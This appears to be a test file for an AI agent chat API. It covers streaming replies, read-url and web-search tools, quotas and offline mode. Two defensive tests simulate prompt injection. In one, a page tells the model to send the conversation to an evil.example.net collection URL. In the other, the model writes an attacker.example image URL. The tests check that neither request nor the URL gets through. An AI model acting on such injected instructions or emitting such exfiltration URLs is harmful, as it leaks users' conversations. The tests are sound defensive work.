import { once } from "node:events";
import type { AddressInfo } from "node:net";
import { serve } from "@hono/node-server";
import { MAX_AGENT_TURNS } from "@nexus/contracts";
import { schema } from "@nexus/db";
import { eq } from "drizzle-orm";
import { describe, expect, it } from "vitest";
import { restoreThread } from "../../../test/support/thread-api.ts";
import { presetAgent } from "../../ai/agents/presets.ts";
import { MAX_TOOL_CALLS_PER_TURN } from "../../ai/tools/index.ts";
import { partOf, readUntil, textOf } from "../answer/answer-test-kit.ts";
import * as history from "../history/history.service.ts";
import * as usage from "../usage/usage.service.ts";
import {
  agentUsage,
  chat,
  h,
  llm,
  offline,
  pages,
  replies,
  say,
  searxng,
  threadIdOf,
  useAgentChats,
  userOf,
  waitFor,
} from "./agents-test-kit.ts";

/** POST /api/agents/:agentId/chat: replies with a model (tools included) and without one. */

useAgentChats();

describe("POST /api/agents/:agentId/chat", () => {
  it("streams a reply with the agent's own system prompt, keeps it under the agent, charges once", async () => {
    const { cookie, userId } = await h.signIn("agents-chat@acme.com");
    replies.push({ kind: "text", text: "Here is a gentle plan for your Sunday." });
    const first = await chat(h, "maya", cookie, say("Plan my Sunday"));
    expect(first.status).toBe(200);
    expect(textOf(first.chunks)).toBe("Here is a gentle plan for your Sunday.");
    const start = partOf(first.chunks, "start")?.messageMetadata as Record<string, unknown>;
    expect(start).toMatchObject({ agentId: "maya", model: "fake-model", offline: false });
    expect(partOf(first.chunks, "finish")).toBeDefined();
    const system = String(llm.requests[0]?.messages[0]?.content);
    expect(llm.requests[0]?.messages[0]?.role).toBe("system");
    expect(system).toContain(presetAgent("maya")?.prompt.slice(0, 80));
    expect(await agentUsage(h, cookie)).toBe(1);

    const threadId = threadIdOf(first.chunks);
    h.clock.advance(60_000);
    replies.push({ kind: "text", text: "Add a long walk after lunch." });
    const second = await chat(h, "maya", cookie, say("And the afternoon?", threadId));
    expect(textOf(second.chunks)).toBe("Add a long walk after lunch.");
    // The follow-up carries the conversation, and costs nothing.
    const sent = llm.requests[1]?.messages.map((m) => m.role);
    expect(sent).toEqual(["system", "user", "assistant", "user"]);
    expect(await agentUsage(h, cookie)).toBe(1);

    const rows = await h.db.db
      .select()
      .from(schema.searchHistory)
      .where(eq(schema.searchHistory.userId, userId));
    expect(rows).toHaveLength(2);
    expect(rows.every((r) => r.kind === "agent" && r.subjectId === "maya")).toBe(true);
    expect(rows.every((r) => r.threadId === threadId)).toBe(true);

    const thread = await restoreThread(h, threadId, cookie);
    expect(thread.status).toBe(200);
    expect(thread.kind).toBe("agent");
    expect(thread.subject?.id).toBe("maya");
    expect(thread.turns.map((t) => t.text)).toEqual(["Plan my Sunday", "And the afternoon?"]);
    expect(thread.turns[1]?.parts).toEqual([
      { type: "text", text: "Add a long walk after lunch.", state: "done" },
    ]);
    // The conversation is listed in history like any thread.
    const listed = (await (await h.request("/api/history", { cookie })).json()) as {
      threads: { threadId: string; kind: string; agentId: string | null }[];
    };
    expect(listed.threads[0]).toMatchObject({ threadId, kind: "agent", agentId: "maya" });
  });

  it("url-qa reads the page the person gave through its tool, cites it, and saves the tool part", async () => {
    const { cookie } = await h.signIn("agents-urlqa@acme.com");
    const url = `${pages.origin("tides.example.org")}/tides`;
    replies.push(
      { kind: "tool-calls", calls: [{ name: "read-url", arguments: { url } }] },
      { kind: "text", text: "The moon pulls the oceans [1]." },
    );
    const { status, chunks } = await chat(h, "url-qa", cookie, say(`What does ${url} say?`));
    expect(status).toBe(200);
    const types = chunks.map((c) => c.type);
    expect(types).toContain("tool-input-start");
    const input = partOf(chunks, "tool-input-available");
    expect(input).toMatchObject({ toolName: "read-url", input: { url } });
    const output = partOf(chunks, "tool-output-available")?.output as {
      title: string;
      text: string;
      n: number;
    };
    expect(output.title).toBe("Tides explained");
    expect(output.text).toContain("The moon's gravity pulls the oceans");
    expect(output.n).toBe(1);
    expect(partOf(chunks, "source-url")).toMatchObject({
      sourceId: "1",
      url,
      title: "Tides explained",
    });
    expect(textOf(chunks)).toBe("The moon pulls the oceans [1].");
    // The model got the page back as the tool's result.
    const toolMessage = llm.requests[1]?.messages.find((m) => m.role === "tool");
    expect(JSON.stringify(toolMessage?.content)).toContain("two high tides a day");
    expect(pages.hits).toEqual(["tides.example.org/tides"]);

    const threadId = threadIdOf(chunks);
    const thread = await restoreThread(h, threadId, cookie);
    const parts = thread.turns[0]?.parts ?? [];
    expect(parts.map((p) => p.type)).toEqual([
      "tool-read-url",
      "source-url",
      "text",
      "data-citation-checks",
    ]);
    // The page the tool read holds the cited sentence's words: the citation is verified.
    expect(parts[3]).toMatchObject({ data: [{ source: 1, verified: true }] });
    expect(parts[0]).toMatchObject({ state: "output-available", input: { url } });
  });

  it("a regenerated reply keeps the one before it as a version, with its parts", async () => {
    const { cookie } = await h.signIn("agents-versions@acme.com");
    replies.push({ kind: "text", text: "A first plan." });
    const first = await chat(h, "maya", cookie, say("Plan my Sunday"));
    const threadId = threadIdOf(first.chunks);
    const entryId = String(partOf(first.chunks, "start")?.messageId);
    replies.push({ kind: "text", text: "A better plan." });
    const regenerate = {
      ...say("Plan my Sunday, slowly", threadId),
      trigger: "regenerate-message",
      messageId: entryId,
    };
    const again = await chat(h, "maya", cookie, regenerate);
    const finish = partOf(again.chunks, "finish")?.messageMetadata as { versions?: unknown[] };
    expect(finish.versions).toEqual([
      expect.objectContaining({
        text: "Plan my Sunday",
        parts: [{ type: "text", text: "A first plan." }],
      }),
    ]);
    const thread = await restoreThread(h, threadId, cookie);
    expect(thread.turns).toHaveLength(1);
    expect(thread.turns[0]?.text).toBe("Plan my Sunday, slowly");
    expect(thread.turns[0]?.parts).toEqual([
      { type: "text", text: "A better plan.", state: "done" },
    ]);
    expect(thread.turns[0]?.versions).toEqual([
      expect.objectContaining({
        text: "Plan my Sunday",
        parts: [{ type: "text", text: "A first plan." }],
      }),
    ]);
  });

  it("G14: a page that tells the model to send the conversation elsewhere causes no request there", async () => {
    const { cookie } = await h.signIn("agents-g14@acme.com");
    const url = `${pages.origin("tides.example.org")}/tides`;
    const evil = `${pages.origin("evil.example.net")}/collect?data=the+user%27s+conversation`;
    replies.push(
      { kind: "tool-calls", calls: [{ name: "read-url", arguments: { url } }] },
      // The model falls for the page's instruction…
      { kind: "tool-calls", calls: [{ name: "read-url", arguments: { url: evil } }] },
      { kind: "text", text: "The page says the moon pulls the oceans [1]." },
    );
    const { chunks } = await chat(h, "url-qa", cookie, say(`Summarise ${url} please`));
    // …and the tool refuses an address neither the person nor a search gave.
    const refused = chunks.find((c) => c.type === "tool-output-error");
    expect(String(refused?.errorText)).toContain("Not read: evil.example.net");
    expect(pages.hits).toEqual(["tides.example.org/tides"]);
    expect(textOf(chunks)).toContain("moon pulls the oceans");
  });

  it("the probe: an image proxy URL the model writes never reaches the reply or the saved turn (G14)", async () => {
    const { cookie, userId } = await h.signIn("agents-model-images@acme.com");
    const signed = h.deps.images.sign("http://attacker.example/pixel.png?victim=agent") ?? "";
    const signature = signed.slice(signed.indexOf("&s=") + 3);
    replies.push({
      kind: "text",
      text: `A plan. ![a](${signed} "t") <img src="${signed}"> ![b][p]\n\n[p]: ${signed}\n`,
    });
    const { chunks } = await chat(h, "quick-answer", cookie, say("Plan my Sunday"));
    const reply = textOf(chunks);
    expect(reply).toContain("A plan.");
    expect(reply).not.toContain(signature);
    expect(reply).not.toMatch(/api\/image|!\[/);
    const saved = await h.db.db
      .select()
      .from(schema.searchHistory)
      .where(eq(schema.searchHistory.userId, userId));
    expect(JSON.stringify(saved)).toContain("A plan.");
    expect(JSON.stringify(saved)).not.toContain(signature);
  });

  it("web-search numbers the results as sources and lets the agent read one of them", async () => {
    const { cookie } = await h.signIn("agents-search@acme.com");
    replies.push(
      { kind: "tool-calls", calls: [{ name: "web-search", arguments: { query: "tides" } }] },
      { kind: "text", text: "Tides come from the moon [1][2]." },
    );
    const { chunks } = await chat(h, "quick-answer", cookie, say("Why are there tides?"));
    const output = partOf(chunks, "tool-output-available")?.output as {
      results: { n: number; url: string }[];
    };
    expect(output.results.length).toBeGreaterThan(2);
    expect(output.results.map((r) => r.n)).toEqual(output.results.map((_, i) => i + 1));
    const sources = chunks.filter((c) => c.type === "source-url");
    expect(sources.map((s) => s.url)).toEqual(output.results.map((r) => r.url));
    expect(searxng.requests.at(-1)?.query.get("q")).toBe("tides");
  });

  it("caps the tool calls of one reply, all tools together", async () => {
    const { cookie } = await h.signIn("agents-cap@acme.com");
    const calls = Array.from({ length: MAX_TOOL_CALLS_PER_TURN + 2 }, (_, i) => ({
      name: "web-search",
      arguments: { query: `tides ${i}` },
    }));
    replies.push({ kind: "tool-calls", calls }, { kind: "text", text: "Enough searching." });
    const before = searxng.requests.length;
    const { chunks } = await chat(h, "quick-answer", cookie, say("Search a lot"));
    const outputs = chunks.filter((c) => c.type === "tool-output-available");
    const refused = chunks.filter((c) => c.type === "tool-output-error");
    expect(outputs).toHaveLength(MAX_TOOL_CALLS_PER_TURN);
    expect(refused).toHaveLength(2);
    expect(String(refused[0]?.errorText)).toContain(
      `used its ${MAX_TOOL_CALLS_PER_TURN} tool calls`,
    );
    expect(searxng.requests.length - before).toBe(MAX_TOOL_CALLS_PER_TURN);
    expect(textOf(chunks)).toBe("Enough searching.");
  });

  it("says so in the tool part when a page cannot be read, and the reply goes on", async () => {
    const { cookie } = await h.signIn("agents-404@acme.com");
    const url = `${pages.origin("tides.example.org")}/missing`;
    replies.push(
      { kind: "tool-calls", calls: [{ name: "read-url", arguments: { url } }] },
      { kind: "text", text: "I could not read that page." },
    );
    const { chunks } = await chat(h, "url-qa", cookie, say(`Read ${url}`));
    expect(partOf(chunks, "tool-output-error")?.errorText).toBe(
      "tides.example.org answered with HTTP 404.",
    );
    expect(textOf(chunks)).toBe("I could not read that page.");
  });

  it("charges nothing for a conversation whose first reply fails, and keeps nothing", async () => {
    const { cookie, userId } = await h.signIn("agents-fail@acme.com");
    replies.push({ kind: "status", status: 400, message: "bad request upstream" });
    const { status, chunks } = await chat(h, "writer", cookie, say("Write a haiku"));
    expect(status).toBe(200);
    expect(partOf(chunks, "error")).toBeDefined();
    expect(await agentUsage(h, cookie)).toBe(0);
    const rows = await h.db.db
      .select()
      .from(schema.searchHistory)
      .where(eq(schema.searchHistory.userId, userId));
    expect(rows).toHaveLength(0);
  });

  it("refuses a new conversation at the limit with the limit card's details, not a follow-up", async () => {
    const { cookie } = await h.signIn("agents-quota@acme.com");
    replies.push({ kind: "text", text: "First." });
    const first = await chat(h, "comedian", cookie, say("A joke"));
    const threadId = threadIdOf(first.chunks);
    const caller = { user: await userOf(cookie), anonId: null, ip: "127.0.0.1" };
    await usage.consume({ deps: h.deps, caller, counter: "agentUsage", amount: 4 });
    const refused = await chat(h, "comedian", cookie, say("Another joke"));
    expect(refused.status).toBe(429);
    const body = JSON.parse(refused.text) as Record<string, unknown>;
    expect(body).toMatchObject({
      error: { code: "quota_exceeded" },
      details: { limit: 5, current: 5, tier: "free", upgrade: "plans" },
    });
    expect(JSON.stringify(body.details)).toMatch(/"resetsAt":"\d{4}-/);
    replies.push({ kind: "text", text: "Second." });
    const followUp = await chat(h, "comedian", cookie, say("One more", threadId));
    expect(followUp.status).toBe(200);
    expect(textOf(followUp.chunks)).toBe("Second.");
  });

  it(`offers a new conversation after ${MAX_AGENT_TURNS} turns`, async () => {
    const { cookie } = await h.signIn("agents-full@acme.com");
    replies.push({ kind: "text", text: "Hello." });
    const first = await chat(h, "companion", cookie, say("Hi"));
    const threadId = threadIdOf(first.chunks);
    const user = await userOf(cookie);
    for (let i = 1; i < MAX_AGENT_TURNS; i++)
      await history.saveTurn({
        deps: h.deps,
        user,
        turn: {
          id: `full-${i}`,
          userId: user.id,
          threadId,
          timestamp: new Date(Date.now() + i * 1000),
          query: `Turn ${i}`,
          results: { markdown: "ok" },
          kind: "agent",
          subjectId: "companion",
        },
      });
    const full = await chat(h, "companion", cookie, say("Still there?", threadId));
    expect(full.status).toBe(409);
    expect(JSON.parse(full.text)).toMatchObject({ error: { code: "conversation_full" } });
  });

  it("keeps a stopped reply as far as it got, uncharged", async () => {
    const { cookie, userId } = await h.signIn("agents-stop@acme.com");
    replies.push({ kind: "text", text: "one two three four five six seven eight", delayMs: 60 });
    // A real socket: the person's browser hangs up once the first words arrive.
    const server = serve({ fetch: h.app.fetch, port: 0, hostname: "127.0.0.1" });
    await once(server, "listening");
    const { port } = server.address() as AddressInfo;
    const controller = new AbortController();
    try {
      // biome-ignore lint/style/noRestrictedGlobals: the test's browser, talking to our own app on loopback
      const res = await fetch(`http://127.0.0.1:${port}/api/agents/story-generator/chat`, {
        method: "POST",
        headers: { "content-type": "application/json", cookie },
        body: JSON.stringify(say("A story")),
        signal: controller.signal,
      });
      await readUntil(res.body?.getReader(), "text-delta");
      controller.abort();
    } finally {
      server.close();
    }
    await llm.waitForAborts();
    await waitFor(async () => {
      const rows = await h.db.db
        .select()
        .from(schema.searchHistory)
        .where(eq(schema.searchHistory.userId, userId));
      return rows.length === 1 && rows[0]?.results.stopped === true;
    });
    // Its reserved unit is given back once the stopped run has ended.
    await waitFor(async () => (await agentUsage(h, cookie)) === 0);
  });
});

describe("agent chats offline (no model)", () => {
  it("url-qa reads the page and answers by quoting it, with the read shown as a tool part", async () => {
    const { cookie } = await offline.signIn("agents-offline@acme.com");
    const url = `${pages.origin("tides.example.org")}/tides`;
    const { status, chunks } = await chat(
      offline,
      "url-qa",
      cookie,
      say(`What pulls the oceans according to ${url}?`),
    );
    expect(status).toBe(200);
    expect(partOf(chunks, "start")?.messageMetadata).toMatchObject({ offline: true });
    expect(partOf(chunks, "tool-input-available")).toMatchObject({ toolName: "read-url" });
    expect(partOf(chunks, "tool-output-available")).toBeDefined();
    expect(textOf(chunks)).toContain("gravity pulls the oceans");
    expect(textOf(chunks)).toContain("[1]");
    expect(await agentUsage(offline, cookie)).toBe(1);
    // After a reload the reply still says it was offline (its metadata, from what was saved).
    const thread = await restoreThread(offline, threadIdOf(chunks), cookie);
    expect(thread.status).toBe(200);
    expect(thread.turns[0]?.metadata).toMatchObject({ offline: true });
  });

  it("refuses an agent that needs a model with what to configure, before anything runs", async () => {
    const { cookie } = await offline.signIn("agents-offline-writer@acme.com");
    const { status, text } = await chat(offline, "writer", cookie, say("Write a poem"));
    expect(status).toBe(409);
    const error = (JSON.parse(text) as { error: { code: string; message: string } }).error;
    expect(error.code).toBe("needs_model");
    expect(error.message).toContain("This agent needs a language model");
    expect(error.message).toContain("LLM_BASE_URL");
    expect(await agentUsage(offline, cookie)).toBe(0);
  });
});
